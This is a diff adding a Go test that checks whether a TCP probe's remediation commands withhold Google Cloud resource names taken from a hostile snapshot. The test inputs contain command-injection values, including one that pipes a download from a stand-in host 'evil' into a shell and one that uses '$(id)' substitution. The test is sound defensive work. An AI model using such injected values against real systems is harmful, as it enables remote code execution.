@@ -181,3 +181,26 @@ func readAll(conn net.Conn) ([]byte, error) {
 		}
 	}
 }
+
+// TestProbeCommandsWithholdHostileNames: names from a hostile snapshot never reach the
+// probe's remediation commands, and the finding says why.
+func TestProbeCommandsWithholdHostileNames(t *testing.T) {
+	port := freePort(t) // nothing listens: the connection is refused, with remediation
+	findings := Run(context.Background(), Options{
+		Host: "127.0.0.1", Port: port, ConnectTimeout: time.Second, Timeout: 5 * time.Second,
+		Instance: &Instance{Name: "projects/p/locations/us-central1/instances/x;curl evil|sh;#", Port: 6379},
+		Service:  "projects/p/locations/us-central1/services/svc$(id)",
+	}, nil)
+	f := findings[0]
+	if f.Remediation == nil {
+		t.Fatalf("probe.tcp %s has no remediation: %s", f.Status, f.Message)
+	}
+	for _, c := range f.Remediation.Commands {
+		if strings.Contains(c, "curl") || strings.Contains(c, "$(") {
+			t.Errorf("command carries the hostile name: %s", c)
+		}
+	}
+	if !strings.Contains(f.Message, "is not a valid Google Cloud name") {
+		t.Errorf("message does not say a command was left out: %s", f.Message)
+	}
+}
